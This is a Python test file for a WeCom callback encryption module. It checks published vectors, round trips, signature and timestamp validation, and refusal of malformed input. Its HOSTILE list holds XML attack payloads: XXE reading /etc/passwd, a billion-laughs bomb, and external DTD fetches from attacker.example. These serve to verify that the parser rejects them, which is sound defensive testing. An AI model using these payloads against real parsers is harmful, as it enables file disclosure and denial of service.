"""WeCom callback crypto: WeCom's published vectors, round trips, and every refusal."""

import base64
import contextlib
import struct
import time
from xml.sax.saxutils import escape

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import given, settings
from hypothesis import strategies as st

from custos.wecom.callback_crypto import CallbackCrypto, CallbackError, ErrorCode, parse_event

# --- WeCom's published sample --------------------------------------------------------------
# From WeCom's documentation page 加解密方案说明 (https://developer.work.weixin.qq.com/document/path/90968,
# section 举例说明: config, POST, sorted string, signature, decrypted plaintext) and the callback sample of
# WeCom's SDK, github.com/sbzhu/weworkapi_php callback/Sample.php (the same values are in the Java and C#
# samples): example 1 (VerifyURL GET) and example 2 (DecryptMsg POST, plaintext printed in its comment).
TOKEN = "QDG6eK"
RECEIVE_ID = "wx5823bf96d3bd56c7"
AES_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"

VERIFY_SIGNATURE = "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3"
VERIFY_TIMESTAMP = "1409659589"
VERIFY_NONCE = "263014780"
VERIFY_ECHOSTR = "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ=="
# The sample prints what VerifyURL returns without stating it; this is that value (other
# implementations pin the same one).
VERIFY_PLAINTEXT = "1616140317555161061"

POST_SIGNATURE = "477715d11cdb4164915debcba66cb864d751f3e6"
POST_TIMESTAMP = "1409659813"
POST_NONCE = "1372623149"
POST_ENCRYPT = (
    "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W/s"
    "YYvuJTs3TUUkSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+HMZfJ"
    "YuR+LtwGc2hgf5gsijff0ekUNXZiqATP7PF5mZxZ3Izoun1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSrXJB3LAVGU"
    "callcrw8V2t9EL4EhzJWrQUax5wLVMNS0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7m3fVKn28H3KDY"
    "A5Pl/T8Z1ptDAVe0lXdQ2YoyyH2uyPIGHBZZIs2pDBS8R07+qN+E7Q=="
)
POST_BODY = (
    "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>"
    f"<Encrypt><![CDATA[{POST_ENCRYPT}]]></Encrypt>"
    "<AgentID><![CDATA[218]]></AgentID></xml>"
).encode()
POST_PLAINTEXT = (
    "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName>\n"
    "<FromUserName><![CDATA[mycreate]]></FromUserName>\n"
    "<CreateTime>1409659813</CreateTime>\n"
    "<MsgType><![CDATA[text]]></MsgType>\n"
    "<Content><![CDATA[hello]]></Content>\n"
    "<MsgId>4561255354251345929</MsgId>\n"
    "<AgentID>218</AgentID>\n"
    "</xml>"
)

# --- WeCom's Python SDK sample: github.com/sbzhu/weworkapi_python callback/Sample.py ---------
# Another corp's key and a ww... CorpID; the decrypted POST is byte for byte the sample's own reply
# text (sRespData, example 3). Its echostr plaintext is not printed there either.
PY_TOKEN = "hJqcu3uJ9Tn2gXPmxx2w9kkCkCE2EPYo"
PY_AES_KEY = "6qkdMrq68nTKduznJYO1A37W2oEgpkMUvkttRToqhUt"
PY_RECEIVE_ID = "ww1436e0e65a779aee"
PY_VERIFY = (
    "012bc692d0a58dd4b10f8dfe5c4ac00ae211ebeb",
    "1476416373",
    "47744683",
    "fsi1xnbH4yQh0+PJxcOdhhK6TDXkjMyhEPA7xB2TGz6b+g7xyAbEkRxN/3cNXW9qdqjnoVzEtpbhnFyq6SVHyA==",
)
PY_POST_SIGNATURE, PY_POST_TIMESTAMP, PY_POST_NONCE = (
    "0c3914025cb4b4d68103f6bfc8db550f79dcf48e",
    "1476422779",
    "1597212914",
)
PY_POST_BODY = (
    "<xml><ToUserName><![CDATA[ww1436e0e65a779aee]]></ToUserName>\n<Encrypt><![CDATA["
    "Kl7kjoSf6DMD1zh7rtrHjFaDapSCkaOnwu3bqLc5tAybhhMl9pFeK8NslNPVdMwmBQTNoW4mY7AIjeLvEl3NyeTkAgGzBhzTtRLNshw2"
    "AEew+kkYcD+Fq72Kt00fT0WnN87hGrW8SqGc+NcT3mu87Ha3dz1pSDi6GaUA6A0sqfde0VJPQbZ9U+3JWcoD4Z5jaU0y9GSh010wsHF8"
    "KZD24YhmZH4ch4Ka7ilEbjbfvhKkNL65HHL0J6EYJIZUC2pFrdkJ7MhmEbU2qARR4iQHE7wy24qy0cRX3Mfp6iELcDNfSsPGjUQVDGxQ"
    "DCWjayJOpcwocugux082f49HKYg84EpHSGXAyh+/oxwaWbvL6aSDPOYuPDGOCI8jmnKiypE+"
    "]]></Encrypt>\n<AgentID><![CDATA[1000002]]></AgentID>\n</xml>"
)
PY_POST_PLAINTEXT = (
    "<xml><ToUserName>ww1436e0e65a779aee</ToUserName><FromUserName>ChenJiaShun</FromUserName>"
    "<CreateTime>1476422779</CreateTime><MsgType>text</MsgType><Content>你好</Content>"
    "<MsgId>1456453720</MsgId><AgentID>1000002</AgentID></xml>"
)

# --- Known-answer encryption: the WeChat Official Account SDK's test (same scheme, fixed random) -
# cryptoDemo.zip of 公众平台 "消息加解密说明", Java/src/com/qq/weixin/mp/aes/WXBizMsgCryptTest.java
# (testAesEncrypt, testAesEncrypt2): randomStr "aaaabbbbccccdddd".
KAT_AES_KEY = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG"
KAT_RECEIVE_ID = "wxb11529c136998cb6"
KAT_RANDOM = b"aaaabbbbccccdddd"
KAT_1 = (
    "我是中文abcd123",
    "jn1L23DB+6ELqJ+6bruv21Y6MD7KeIfP82D6gU39rmkgczbWwt5+3bnyg5K55bgVtVzd832WzZGMhkP72vVOfg==",
)
KAT_2 = (
    "<xml><ToUserName><![CDATA[oia2Tj我是中文jewbmiOUlr6X-1crbLOvLw]]></ToUserName><FromUserName><![CDATA["
    "gh_7f083739789a]]></FromUserName><CreateTime>1407743423</CreateTime><MsgType><![CDATA[video]]></MsgType>"
    "<Video><MediaId><![CDATA[eYJ1MbwPRJtOvIEabaxHs7TX2D-HV71s79GUxqdUkjm6Gs2Ed1KF3ulAOA9H1xG0]]></MediaId>"
    "<Title><![CDATA[testCallBackReplyVideo]]></Title><Description><![CDATA[testCallBackReplyVideo]]>"
    "</Description></Video></xml>",
    "jn1L23DB+6ELqJ+6bruv23M2GmYfkv0xBh2h+XTBOKVKcgDFHle6gqcZ1cZrk3e1qjPQ1F4RsLWzQRG9udbKWesxlkupqcEcW7ZQ"
    "weImX9+wLMa0GaUzpkycA8+IamDBxn5loLgZpnS7fVAbExOkK5DYHBmv5tptA9tklE/fTIILHR8HLXa5nQvFb3tYPKAlHF3rtTeayNf0"
    "QuM+UW/wM9enGIDIJHF7CLHiDNAYxr+r+OrJCmPQyTy8cVWlu9iSvOHPT/77bZqJucQHQ04sq7KZI27OcqpQNSto2OdHCoTccjggX5Z9"
    "Mma0nMJBU+jLKJ38YB1fBIz+vBzsYjrTmFQ44YfeEuZ+xRTQwr92vhA9OxchWVINGC50qE/6lmkwWTwGX9wtQpsJKhP+oS7rvTY8+Vdz"
    "ETdfakjkwQ5/Xka042OlUb1/slTwo4RscuQ+RdxSGvDahxAJ6+EAjLt9d8igHngxIbf6YyqqROxuxqIeIch3CssH/LqRs+iAcILvApYZ"
    "ckqmA7FNERspKA5f8GoJ9sv8xmGvZ9Yrf57cExWtnX8aCMMaBropU/1k+hKP5LVdzbWCG0hGwx/dQudYR/eXp3P0XxjlFiy+9DMlaFEx"
    "WUZQDajPkdPrEeOwofJb",
)

NOW = 1_700_000_000


@pytest.fixture
def crypto() -> CallbackCrypto:
    return CallbackCrypto(TOKEN, AES_KEY, RECEIVE_ID)


def expect(code: ErrorCode, fn, *args, **kwargs) -> CallbackError:
    with pytest.raises(CallbackError) as info:
        fn(*args, **kwargs)
    assert info.value.code == code, (info.value.code, info.value.message)
    assert isinstance(info.value, ValueError)
    return info.value


def raw_ciphertext(key_text: str, plaintext: bytes) -> str:
    """Encrypt bytes exactly as given (no padding added), to hand-craft malformed plaintexts."""
    key = base64.b64decode(key_text + "=")
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(encryptor.update(plaintext) + encryptor.finalize()).decode()


def body(encrypted: str) -> bytes:
    return f"<xml><ToUserName><![CDATA[{RECEIVE_ID}]]></ToUserName><Encrypt><![CDATA[{encrypted}]]></Encrypt></xml>".encode()


def post(crypto: CallbackCrypto, encrypted: str, timestamp: str = str(NOW), nonce: str = "42"):
    """decrypt_message on a correctly signed body: what is left to check is the ciphertext itself."""
    signature = crypto.signature(timestamp, nonce, encrypted)
    return crypto.decrypt_message(body(encrypted), signature, timestamp, nonce, now=NOW)


def padded(data: bytes) -> bytes:
    n = 32 - len(data) % 32
    return data + bytes([n]) * n


# --- published vectors -------------------------------------------------------------------------


def test_published_signatures(crypto):
    assert crypto.signature(VERIFY_TIMESTAMP, VERIFY_NONCE, VERIFY_ECHOSTR) == VERIFY_SIGNATURE
    assert crypto.signature(POST_TIMESTAMP, POST_NONCE, POST_ENCRYPT) == POST_SIGNATURE


def test_published_verify_url(crypto):
    assert (
        crypto.verify_url(VERIFY_SIGNATURE, VERIFY_TIMESTAMP, VERIFY_NONCE, VERIFY_ECHOSTR)
        == VERIFY_PLAINTEXT
    )


def test_published_post_decrypts_to_the_published_plaintext(crypto):
    now = int(POST_TIMESTAMP)
    assert (
        crypto.decrypt_message(POST_BODY, POST_SIGNATURE, POST_TIMESTAMP, POST_NONCE, now=now)
        == POST_PLAINTEXT
    )
    assert crypto.parse_event(POST_PLAINTEXT) == {
        "ToUserName": "wx5823bf96d3bd56c7",
        "FromUserName": "mycreate",
        "CreateTime": "1409659813",
        "MsgType": "text",
        "Content": "hello",
        "MsgId": "4561255354251345929",
        "AgentID": "218",
    }


def test_published_python_sample():
    crypto = CallbackCrypto(PY_TOKEN, PY_AES_KEY, PY_RECEIVE_ID)
    assert crypto.verify_url(*PY_VERIFY) == "1288432023552776189"
    plaintext = crypto.decrypt_message(
        PY_POST_BODY, PY_POST_SIGNATURE, PY_POST_TIMESTAMP, PY_POST_NONCE, now=int(PY_POST_TIMESTAMP)
    )
    assert plaintext == PY_POST_PLAINTEXT
    assert parse_event(plaintext)["Content"] == "你好"


def test_published_vectors_refuse_a_different_receive_id():
    other = CallbackCrypto(TOKEN, AES_KEY, "ww_someone_else")
    expect(
        ErrorCode.VALIDATE_RECEIVE_ID,
        other.verify_url,
        VERIFY_SIGNATURE,
        VERIFY_TIMESTAMP,
        VERIFY_NONCE,
        VERIFY_ECHOSTR,
    )


@pytest.mark.parametrize(("message", "ciphertext"), [KAT_1, KAT_2])
def test_known_answer_encryption(message, ciphertext):
    crypto = CallbackCrypto("pamtest", KAT_AES_KEY, KAT_RECEIVE_ID)
    assert crypto._encrypt_with(KAT_RANDOM, message) == ciphertext
    assert crypto._decrypt(ciphertext) == message


# --- round trips -------------------------------------------------------------------------------


@settings(max_examples=150, deadline=None)
@given(message=st.text(), nonce=st.from_regex(r"[A-Za-z0-9_.-]{1,64}", fullmatch=True))
def test_round_trip_any_utf8(message, nonce):
    crypto = CallbackCrypto(TOKEN, AES_KEY, RECEIVE_ID)
    reply = crypto.encrypt_message(message, nonce, NOW)
    fields = parse_event(reply)
    assert fields["TimeStamp"] == str(NOW) and fields["Nonce"] == nonce
    assert fields["MsgSignature"] == crypto.signature(str(NOW), nonce, fields["Encrypt"])
    # A stub WeCom posts exactly this body, with MsgSignature in the query string.
    assert crypto.decrypt_message(reply.encode(), fields["MsgSignature"], str(NOW), nonce, now=NOW) == message
    encrypted = crypto.encrypt(message)
    assert crypto.verify_url(crypto.signature("1", nonce, encrypted), "1", nonce, encrypted) == message


def test_encryption_is_randomised(crypto):
    assert crypto.encrypt("same") != crypto.encrypt("same")


def test_encrypt_message_defaults_to_the_current_time(crypto):
    before = int(time.time())
    stamp = int(parse_event(crypto.encrypt_message("<xml/>", "n1"))["TimeStamp"])
    assert before <= stamp <= int(time.time())


# --- construction ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "",
        "abc",
        AES_KEY + "A",
        AES_KEY[:-1],
        AES_KEY[:-1] + "=",
        "!" * 43,
        AES_KEY[:-1] + "é",
        " " + AES_KEY[1:],
    ],
)
def test_illegal_aes_key(key):
    expect(ErrorCode.ILLEGAL_AES_KEY, CallbackCrypto, TOKEN, key, RECEIVE_ID)


def test_empty_token_is_refused():
    expect(ErrorCode.COMPUTE_SIGNATURE, CallbackCrypto, "", AES_KEY, RECEIVE_ID)


# --- signature ---------------------------------------------------------------------------------


def test_wrong_signature(crypto):
    wrong = "0" * 40
    expect(
        ErrorCode.VALIDATE_SIGNATURE, crypto.verify_url, wrong, VERIFY_TIMESTAMP, VERIFY_NONCE, VERIFY_ECHOSTR
    )
    now = int(POST_TIMESTAMP)
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        crypto.decrypt_message,
        POST_BODY,
        wrong,
        POST_TIMESTAMP,
        POST_NONCE,
        now=now,
    )
    # Every signed value matters: timestamp, nonce and the token.
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        crypto.decrypt_message,
        POST_BODY,
        POST_SIGNATURE,
        "1409659814",
        POST_NONCE,
        now=now,
    )
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        crypto.decrypt_message,
        POST_BODY,
        POST_SIGNATURE,
        POST_TIMESTAMP,
        "1",
        now=now,
    )
    other_token = CallbackCrypto("QDG6eL", AES_KEY, RECEIVE_ID)
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        other_token.decrypt_message,
        POST_BODY,
        POST_SIGNATURE,
        POST_TIMESTAMP,
        POST_NONCE,
        now=now,
    )


@pytest.mark.parametrize("signature", [None, "", POST_SIGNATURE.upper(), POST_SIGNATURE + "0", "签名" * 20])
def test_malformed_signature(crypto, signature):
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        crypto.decrypt_message,
        POST_BODY,
        signature,
        POST_TIMESTAMP,
        POST_NONCE,
        now=int(POST_TIMESTAMP),
    )


@pytest.mark.parametrize("missing", ["timestamp", "nonce", "echostr"])
def test_missing_query_parameters(crypto, missing):
    args = {
        "msg_signature": VERIFY_SIGNATURE,
        "timestamp": VERIFY_TIMESTAMP,
        "nonce": VERIFY_NONCE,
        "echostr": VERIFY_ECHOSTR,
    }
    args[missing] = None
    expect(ErrorCode.VALIDATE_SIGNATURE, crypto.verify_url, **args)


def test_tampered_ciphertext_fails_the_signature(crypto):
    flipped = POST_ENCRYPT[:10] + ("A" if POST_ENCRYPT[10] != "A" else "B") + POST_ENCRYPT[11:]
    tampered = POST_BODY.replace(POST_ENCRYPT.encode(), flipped.encode())
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        crypto.decrypt_message,
        tampered,
        POST_SIGNATURE,
        POST_TIMESTAMP,
        POST_NONCE,
        now=int(POST_TIMESTAMP),
    )
    expect(
        ErrorCode.VALIDATE_SIGNATURE,
        crypto.verify_url,
        VERIFY_SIGNATURE,
        VERIFY_TIMESTAMP,
        VERIFY_NONCE,
        VERIFY_ECHOSTR.replace("P9n", "P9m"),
    )


# --- timestamp window --------------------------------------------------------------------------


def test_timestamp_window(crypto):
    encrypted = crypto.encrypt("<xml/>")
    assert post(crypto, encrypted, timestamp=str(NOW - 300)) == "<xml/>"
    assert post(crypto, encrypted, timestamp=str(NOW + 300)) == "<xml/>"
    assert expect(
        ErrorCode.TIMESTAMP_OUT_OF_WINDOW, post, crypto, encrypted, timestamp=str(NOW - 301)
    ).message.startswith("时间戳已过期")
    assert expect(
        ErrorCode.TIMESTAMP_OUT_OF_WINDOW, post, crypto, encrypted, timestamp=str(NOW + 301)
    ).message.startswith("时间戳超前")
    # The published POST is from 2014: refused against today's clock.
    expect(
        ErrorCode.TIMESTAMP_OUT_OF_WINDOW,
        crypto.decrypt_message,
        POST_BODY,
        POST_SIGNATURE,
        POST_TIMESTAMP,
        POST_NONCE,
    )
    signed = crypto.signature(str(NOW - 3600), "42", encrypted)
    assert (
        crypto.decrypt_message(body(encrypted), signed, str(NOW - 3600), "42", now=NOW, max_age_s=7200)
        == "<xml/>"
    )


@pytest.mark.parametrize("timestamp", ["abc", "-5", "1.5", " 1700000000", "١٧٠٠٠٠٠٠٠٠", "9" * 13])
def test_malformed_timestamp(crypto, timestamp):
    expect(ErrorCode.TIMESTAMP_OUT_OF_WINDOW, post, crypto, crypto.encrypt("x"), timestamp=timestamp)


# --- the ciphertext, layer by layer: each fault has its own error ------------------------------

HEADER = b"R" * 16


def test_bad_base64(crypto):
    for encrypted in ["not base64!", "QUJ", "QUJDRA=", "QUJD RA==", "密文", "QUJD\nRA=="]:
        expect(ErrorCode.DECODE_BASE64, post, crypto, encrypted)
        signed = crypto.signature("1", "2", encrypted)
        expect(ErrorCode.DECODE_BASE64, crypto.verify_url, signed, "1", "2", encrypted)


def test_wrong_block_length(crypto):
    # 16 and 48 bytes are whole AES blocks but not whole 32-byte blocks: WeCom never sends them.
    for size in (16, 48, 33):
        error = expect(ErrorCode.DECRYPT_AES, post, crypto, base64.b64encode(b"\0" * size).decode())
        assert "不是 32 的整数倍" in error.message


@pytest.mark.parametrize(
    "tail",
    [b"\x00", b"\x21", b"\xff", b"\x03\x03\x02", b"\x02" * 31 + b"\x20"],
    ids=["zero", "33", "255", "unequal", "32-but-unequal"],
)
def test_bad_padding(crypto, tail):
    plain = HEADER + struct.pack(">I", 1) + b"x" + RECEIVE_ID.encode()
    plain += b"\x00" * (-(len(plain) + len(tail)) % 32) + tail
    error = expect(ErrorCode.ILLEGAL_BUFFER, post, crypto, raw_ciphertext(AES_KEY, plain))
    assert "填充" in error.message


def test_full_block_of_padding_is_valid():
    plain = HEADER + struct.pack(">I", 2) + b"ok" + b"x" * 10  # 32 bytes exactly: a whole pad block follows
    crypto = CallbackCrypto(TOKEN, AES_KEY, "x" * 10)
    assert post(crypto, raw_ciphertext(AES_KEY, padded(plain))) == "ok"


def test_length_field_past_the_end(crypto):
    for length in (len(RECEIVE_ID) + 6, 2**32 - 1):
        plain = HEADER + struct.pack(">I", length) + b"hello" + RECEIVE_ID.encode()
        error = expect(ErrorCode.ILLEGAL_BUFFER, post, crypto, raw_ciphertext(AES_KEY, padded(plain)))
        assert "长度" in error.message


def test_plaintext_shorter_than_the_header(crypto):
    error = expect(ErrorCode.ILLEGAL_BUFFER, post, crypto, raw_ciphertext(AES_KEY, padded(b"short")))
    assert "头部" in error.message


def test_wrong_receive_id(crypto):
    for receive_id in [b"wx5823bf96d3bd56c8", b"", RECEIVE_ID.encode() + b"\0", b"wx5823bf96d3bd56c"]:
        plain = HEADER + struct.pack(">I", 5) + b"hello" + receive_id
        expect(ErrorCode.VALIDATE_RECEIVE_ID, post, crypto, raw_ciphertext(AES_KEY, padded(plain)))
    # Same key and token, another corp's receiveid: a message for them does not decrypt here.
    theirs = CallbackCrypto(TOKEN, AES_KEY, "ww_other_corp")
    expect(ErrorCode.VALIDATE_RECEIVE_ID, post, crypto, theirs.encrypt("hello"))


def test_message_not_utf8(crypto):
    plain = HEADER + struct.pack(">I", 2) + b"\xff\xfe" + RECEIVE_ID.encode()
    error = expect(ErrorCode.ILLEGAL_BUFFER, post, crypto, raw_ciphertext(AES_KEY, padded(plain)))
    assert "UTF-8" in error.message


def test_distinct_errors_for_distinct_faults(crypto):
    def fault(plain: bytes, encrypted: str | None = None) -> tuple[int, str]:
        with pytest.raises(CallbackError) as info:
            post(crypto, encrypted or raw_ciphertext(AES_KEY, plain))
        return info.value.code, info.value.message

    rid = RECEIVE_ID.encode()
    faults = [
        fault(b"", "@@@@"),
        fault(b"", base64.b64encode(b"\0" * 16).decode()),
        fault(HEADER + struct.pack(">I", 1) + b"x" + rid + b"\x00" * 9),
        fault(padded(HEADER + struct.pack(">I", 99) + b"x" + rid)),
        fault(padded(HEADER + struct.pack(">I", 1) + b"x" + b"wx_wrong")),
        fault(padded(HEADER + struct.pack(">I", 1) + b"\xff" + rid)),
    ]
    assert len(set(faults)) == len(faults)


@settings(max_examples=200, deadline=None)
@given(st.binary(min_size=1, max_size=200))
def test_arbitrary_decrypted_bytes_never_escape_as_another_exception(data):
    crypto = CallbackCrypto(TOKEN, AES_KEY, RECEIVE_ID)
    for encrypted in (raw_ciphertext(AES_KEY, padded(data)), base64.b64encode(data).decode()):
        with contextlib.suppress(CallbackError):
            post(crypto, encrypted)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_encrypt_values_never_escape_as_another_exception(encrypted):
    crypto = CallbackCrypto(TOKEN, AES_KEY, RECEIVE_ID)
    with contextlib.suppress(CallbackError):
        crypto.verify_url(crypto.signature("1", "2", encrypted), "1", "2", encrypted)


# --- XML: malformed and hostile ----------------------------------------------------------------

SIGNED = {
    "msg_signature": POST_SIGNATURE,
    "timestamp": POST_TIMESTAMP,
    "nonce": POST_NONCE,
    "now": int(POST_TIMESTAMP),
}

MALFORMED = [
    b"",
    b"not xml",
    b"<xml><Encrypt>abc</Encrypt>",
    b"<xml></xml>",
    b"<xml><Encrypt></Encrypt></xml>",
    b"<xml><Encrypt>  </Encrypt></xml>",
    f"<xml><Encrypt>{POST_ENCRYPT}</Encrypt><Encrypt>{POST_ENCRYPT}</Encrypt></xml>".encode(),
    f"<xml><Encrypt><a>{POST_ENCRYPT}</a></Encrypt></xml>".encode(),
    f"<root><Encrypt>{POST_ENCRYPT}</Encrypt></root>".encode(),
    f"<xml><Encrypt>{POST_ENCRYPT}</Encrypt></xml><xml/>".encode(),
    f"<xml><Encrypt>{POST_ENCRYPT}&undefined;</Encrypt></xml>".encode(),
    b'<?xml version="1.0" encoding="no-such-codec"?><xml/>',
    b"\xff\xfe\x00<xml>",
    b"<xml>" * 40 + b"</xml>" * 40,
]


@pytest.mark.parametrize("post_body", MALFORMED)
def test_malformed_post_xml(crypto, post_body):
    expect(ErrorCode.PARSE_XML, crypto.decrypt_message, post_body, **SIGNED)


def test_post_with_whitespace_around_encrypt_and_an_xml_declaration(crypto):
    post_body = f'<?xml version="1.0" encoding="utf-8"?>\n<xml>\n  <Encrypt>\n  {POST_ENCRYPT}\n  </Encrypt>\n</xml>\n'
    assert crypto.decrypt_message(post_body, **SIGNED) == POST_PLAINTEXT


HOSTILE = [
    # DOCTYPE alone
    f"<!DOCTYPE xml><xml><Encrypt>{POST_ENCRYPT}</Encrypt></xml>",
    # internal entity used in the signed field
    f'<!DOCTYPE xml [<!ENTITY e "{POST_ENCRYPT}">]><xml><Encrypt>&e;</Encrypt></xml>',
    # billion laughs
    '<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    "<xml><Encrypt>&d;</Encrypt></xml>",
    # external entity (XXE)
    '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><Encrypt>&x;</Encrypt></xml>',
    # parameter entity pulling an external DTD
    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml><Encrypt>x</Encrypt></xml>',
    # external DTD
    '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><Encrypt>x</Encrypt></xml>',
]


@pytest.mark.parametrize(
    "xml_text", HOSTILE, ids=["doctype", "entity", "laughs", "xxe", "param-entity", "external-dtd"]
)
def test_doctype_and_entities_are_refused(crypto, xml_text):
    for data in (xml_text, xml_text.encode(), xml_text.encode("utf-16")):
        error = expect(ErrorCode.PARSE_XML, crypto.decrypt_message, data, **SIGNED)
        assert "DOCTYPE" in error.message
        assert "DOCTYPE" in expect(ErrorCode.PARSE_XML, parse_event, data).message


# --- parse_event -------------------------------------------------------------------------------


def test_parse_event_nested_and_repeated():
    # Shapes from WeCom's 客户群变更 (change_external_chat), 转接失败 (transfer_fail) and
    # 异步任务完成 (batch_job_result) events.
    xml_text = """<xml>
        <ToUserName><![CDATA[toUser]]></ToUserName>
        <FromUserName><![CDATA[sys]]></FromUserName>
        <CreateTime>1403610513</CreateTime>
        <MsgType><![CDATA[event]]></MsgType>
        <Event><![CDATA[change_external_chat]]></Event>
        <ChangeType><![CDATA[update]]></ChangeType>
        <UpdateDetail><![CDATA[add_member]]></UpdateDetail>
        <MemChangeList><Item>wmA</Item><Item>wmB</Item></MemChangeList>
        <FailReason><![CDATA[customer_refused]]></FailReason>
        <BatchJob><JobId><![CDATA[S0MrnndvRG5fadSlLwiBqiDDbM143UqTmKP3152FZk4]]></JobId><ErrCode>0</ErrCode></BatchJob>
        <Empty/>
        <Content><![CDATA[ a <b> & "c" ]]></Content>
    </xml>"""
    assert parse_event(xml_text) == {
        "ToUserName": "toUser",
        "FromUserName": "sys",
        "CreateTime": "1403610513",
        "MsgType": "event",
        "Event": "change_external_chat",
        "ChangeType": "update",
        "UpdateDetail": "add_member",
        "MemChangeList": {"Item": ["wmA", "wmB"]},
        "FailReason": "customer_refused",
        "BatchJob": {"JobId": "S0MrnndvRG5fadSlLwiBqiDDbM143UqTmKP3152FZk4", "ErrCode": "0"},
        "Empty": "",
        "Content": ' a <b> & "c" ',
    }
    assert parse_event("<xml><MemChangeList><Item>wmA</Item></MemChangeList></xml>") == {
        "MemChangeList": {"Item": "wmA"}
    }
    assert parse_event("<xml/>") == {}
    assert parse_event("<xml><ChangeType>a</ChangeType><ChangeType>b</ChangeType></xml>") == {
        "ChangeType": ["a", "b"]
    }


@pytest.mark.parametrize(
    "xml_text",
    ["", "<xml>", "<other/>", "<xml><a></b></xml>", "<xml>&amp</xml>", "<xml>" * 33 + "</xml>" * 33],
)
def test_parse_event_malformed(xml_text):
    expect(ErrorCode.PARSE_XML, parse_event, xml_text)


def test_deep_nesting_is_refused_with_one_clear_message():
    error = expect(ErrorCode.PARSE_XML, parse_event, "<xml>" * 40 + "</xml>" * 40)
    assert error.message == "XML 解析失败：嵌套过深"


XML_CHARS = st.characters(
    blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"
) | st.sampled_from("\n\t")


@settings(max_examples=150, deadline=None)
@given(
    st.dictionaries(
        st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,15}", fullmatch=True), st.text(XML_CHARS, max_size=40)
    )
)
def test_parse_event_round_trip(fields):
    xml_text = "<xml>" + "".join(f"<{tag}>{escape(text)}</{tag}>" for tag, text in fields.items()) + "</xml>"
    assert parse_event(xml_text) == fields
    assert parse_event(xml_text.encode()) == fields


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=300), st.binary(max_size=300)))
def test_parse_event_on_arbitrary_input_only_raises_callback_error(data):
    try:
        assert isinstance(parse_event(data), dict)
    except CallbackError as exc:
        assert exc.code == ErrorCode.PARSE_XML


def test_parse_event_refuses_non_text():
    expect(ErrorCode.PARSE_XML, parse_event, None)


# --- building replies --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("nonce", "timestamp"),
    [("a]]>b", NOW), ("", NOW), ("n<", NOW), ("n", "12a"), ("n", -1), ("n", "1 "), ("x" * 65, NOW)],
)
def test_reply_with_unsafe_nonce_or_timestamp(crypto, nonce, timestamp):
    expect(ErrorCode.GEN_RETURN_XML, crypto.encrypt_message, "<xml/>", nonce, timestamp)


def test_encrypt_refuses_lone_surrogates(crypto):
    expect(ErrorCode.ENCRYPT_AES, crypto.encrypt, "\ud800")


def test_signature_over_unencodable_text(crypto):
    expect(ErrorCode.COMPUTE_SIGNATURE, crypto.signature, "1", "\udfff", "x")
